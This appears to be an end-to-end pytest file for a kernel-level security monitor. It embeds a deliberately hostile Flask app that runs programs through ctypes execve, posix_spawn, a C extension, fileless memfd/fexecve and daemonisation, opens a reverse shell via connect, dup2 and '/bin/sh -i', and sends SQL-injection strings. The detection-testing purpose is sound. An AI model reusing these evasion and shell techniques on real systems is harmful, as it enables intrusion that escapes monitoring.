"""Code execution that goes around every Python hook: seen by the kernel, attributed to its request."""

from __future__ import annotations

import contextlib
import hashlib
import socket
import subprocess
import sysconfig
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.harness import App, Node, free_port, running_app, wait_for

TESTER = Path(__file__).parents[1] / "probes" / "uring.c"
APP = textwrap.dedent("""
    import ctypes, os, socket, sys
    from flask import Flask, request

    app = Flask(__name__)
    libc = ctypes.PyDLL(None)  # keeps the lock of the interpreter: a fork without it may hang

    def strings(*words):
        return (ctypes.c_char_p * (len(words) + 1))(*words, None)

    def program(word):
        # makes a file where the request names one, else nothing
        path = request.args.get("make")
        return (b"/bin/touch", strings(b"touch", path.encode())) if path else (b"/bin/true", strings(b"true", word))

    def child(work):
        pid = os.fork()  # with Python's word of it: locks of other threads are free in the child
        if not pid:
            work()
            os._exit(9)
        os.waitpid(pid, 0)
        return "done"

    @app.route("/")
    def index():
        return "ok"

    @app.route("/execve")
    def execve():
        path, words = program(b"by-ctypes")
        return child(lambda: libc.execve(path, words, strings()))

    @app.route("/spawn")
    def spawn():
        pid = ctypes.c_int()
        path, words = program(b"by-spawn")
        if not libc.posix_spawn(ctypes.byref(pid), path, None, None, words, strings()):
            os.waitpid(pid.value, 0)
        return "done"

    @app.route("/extension")
    def extension():
        import bypass_extension
        path, words = program(b"by-extension")
        bypass_extension.run(*words[:2])
        return "done"

    @app.route("/memfd")
    def memfd():
        fd = libc.memfd_create(b"payload", 0)
        path, words = program(b"by-memfd")
        with open(path, "rb") as file:
            os.write(fd, file.read())
        done = child(lambda: libc.fexecve(fd, words, strings()))
        os.close(fd)
        return done

    @app.route("/daemon")
    def daemon():
        path, words = program(b"by-daemon")
        def grandchild():
            libc.setsid()
            if not libc.fork():
                libc.usleep(100000)
                libc.execve(path, words, strings())
            os._exit(0)
        return child(grandchild)

    @app.route("/shell")
    def shell():
        def connect_back():
            client = libc.socket(2, 1, 0)
            port = int(request.args["port"])
            address = bytes([2, 0, port >> 8, port & 255, 127, 0, 0, 1]) + bytes(8)
            libc.connect(client, address, 16)
            for stream in range(3):
                libc.dup2(client, stream)
            libc.execve(b"/bin/sh", strings(b"sh", b"-i"), strings())
        return child(connect_back)

    @app.route("/uring")
    def uring():
        library = ctypes.CDLL(os.environ["URING"])
        client = socket.socket()
        return str(library.uring_connect(client.fileno(), int(request.args["port"])))
""")


EXTENSION = textwrap.dedent("""
    #include <Python.h>
    #include <sys/wait.h>
    #include <unistd.h>

    static PyObject *run(PyObject *self, PyObject *arguments) {
      char *name, *word, path[64] = "/bin/";
      if (!PyArg_ParseTuple(arguments, "yy", &name, &word))
        return NULL;
      char *words[] = {name, word, NULL};
      int pid = fork();
      if (!pid) {
        execv(strncat(path, name, 32), words);
        _exit(9);
      }
      waitpid(pid, NULL, 0);
      Py_RETURN_NONE;
    }

    static PyMethodDef methods[] = {{"run", run, METH_VARARGS, ""}, {0}};
    static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "bypass_extension", "", -1, methods};
    PyMODINIT_FUNC PyInit_bypass_extension(void) { return PyModule_Create(&module); }
""")


def compiled(source: Path, library: Path) -> None:
    """A shared library of it, where there is a compiler."""
    words = ["cc", "-shared", "-fPIC", f"-I{sysconfig.get_path('include')}", "-o", str(library), str(source)]
    with contextlib.suppress(FileNotFoundError):
        subprocess.run(words, check=False, capture_output=True)


@contextlib.contextmanager
def bypassing(node: Node, directory: Path, service: str) -> Iterator[App]:
    """The app that goes around every hook, as this service."""
    (directory / "bypass.py").write_text(APP)
    (directory / "bypass_extension.c").write_text(EXTENSION)
    library = directory / "uring.so"
    compiled(TESTER, library)
    compiled(directory / "bypass_extension.c", directory / "bypass_extension.so")
    port = free_port()
    server = f"gunicorn -w 2 -b 127.0.0.1:{port} bypass:app"
    with running_app(node, server.split(), port, directory, COWITNESS_SERVICE=service, URING=str(library)) as app:
        yield app


def without_compiler(directory: Path) -> bool:
    return not (directory / "bypass_extension.so").exists()


@pytest.fixture(scope="module")
def app(witnessed_node: Node, tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    with bypassing(witnessed_node, tmp_path_factory.mktemp("bypass"), "bypassed") as app:
        yield app


def told(node: Node, path: str, category: str) -> dict[str, Any]:
    """The trace of the request to this path, once the kernel's finding and the agent's word stand in it."""

    def found() -> dict[str, Any]:
        traces = node.traces("--service", "bypassed")
        mine = [t for t in traces if t["request"].get("urlPath") == path and category in t.get("categories", ())]
        return mine[0] if mine else {}

    return wait_for(found, 30, f"a trace of {path} with {category}")


def execs(trace: dict[str, Any]) -> list[list[str]]:
    return [event["argv"] for event in trace["kernelEvents"] if event["kind"] == "exec"]


def test_memfd(app: App, witnessed_node: Node) -> None:
    """A program that never was a file: a confirmed trace, with the request that no rule matched."""
    assert app.get("/memfd") == (200, b"done")
    trace = told(witnessed_node, "/memfd", "fileless_execution")
    assert (trace["verdict"], trace["request"]["statusCode"]) == ("VERDICT_CONFIRMED", 200)
    assert execs(trace) == [["true", "by-memfd"]]
    proof = next(event for event in trace["kernelEvents"] if event.get("evidence"))
    assert (proof["nameless"], proof["target"]) == (True, "memfd:payload")
    shown = witnessed_node.cli("trace", trace["id"]).stdout
    assert "memfd:payload" in shown


def test_reverse_shell(app: App, witnessed_node: Node) -> None:
    """A shell on a connection to the attacker: connect, three dup2, exec; the trace names the other end."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]

        def attacker() -> None:
            with server.accept()[0] as shell:
                shell.sendall(b"exit\n")
                while shell.recv(4096):
                    pass

        thread = threading.Thread(target=attacker)
        thread.start()
        assert app.get(f"/shell?port={port}") == (200, b"done")
        thread.join(20)
    trace = told(witnessed_node, "/shell", "reverse_shell")
    assert trace["verdict"] == "VERDICT_CONFIRMED"
    streams = [event for event in trace["kernelEvents"] if event["kind"] == "stream"]
    assert [(one["operation"], one.get("result", 0)) for one in streams] == [("dup2", 0), ("dup2", 1), ("dup2", 2)]
    assert {one["peer"]["port"] for one in streams} == {port}
    proof = next(event for event in trace["kernelEvents"] if event.get("evidence"))
    assert (proof["argv"], proof["socketStreams"]) == (["sh", "-i"], 7)
    assert proof["ancestors"]


@pytest.mark.parametrize(
    ("path", "word"),
    [
        ("execve", "by-ctypes"), ("spawn", "by-spawn"), ("extension", "by-extension"), ("daemon", "by-daemon"),
    ],
)  # fmt: skip
def test_native_execution(app: App, witnessed_node: Node, path: str, word: str) -> None:
    """An exec that no hook saw stands in the trace of its request, a daemonised grandchild's too."""
    if path == "extension" and without_compiler(app.log.parent):
        pytest.skip("no compiler here, or no headers of Python")
    # an attempt of another kind, so that the request is kept
    assert app.get(f"/{path}?q=%27%20OR%201=1%20--") == (200, b"done")

    def found() -> dict[str, Any]:
        traces = witnessed_node.traces("--service", "bypassed")
        mine = [t for t in traces if t["request"].get("urlPath") == f"/{path}" and ["true", word] in execs(t)]
        return mine[0] if mine else {}

    trace = wait_for(found, 30, f"a trace of /{path} with its exec")
    event = next(e for e in trace["kernelEvents"] if e["kind"] == "exec")
    assert event["attribution"] == "ATTRIBUTION_INHERITED"
    assert not [operation for operation in trace.get("operations", ()) if operation["kind"] in ("shell", "argv")]
    (program,) = witnessed_node.json("executables", trace["id"])
    digest = hashlib.sha256(Path("/bin/true").read_bytes()).hexdigest()
    assert (program["path"], program["sha256"], program["which"]) == ("/bin/true", digest, "untouched")


def test_connect_by_io_uring(app: App, witnessed_node: Node) -> None:
    """A connection that no connect(2) made stands in the trace, with its address."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        if app.get(f"/uring?port={port}&q=%27%20OR%201=1%20--")[1] != b"0":
            pytest.skip("no io_uring or no compiler here")

    def found() -> list[dict[str, Any]]:
        traces = witnessed_node.traces("--service", "bypassed")
        events = [e for t in traces if t["request"].get("urlPath") == "/uring" for e in t["kernelEvents"]]
        return [e for e in events if e["kind"] == "connect" and e["peer"].get("port") == port]

    (event,) = wait_for(found, 30, "the connect")
    assert (event["attribution"], event["verified"]) == ("ATTRIBUTION_EXACT", True)
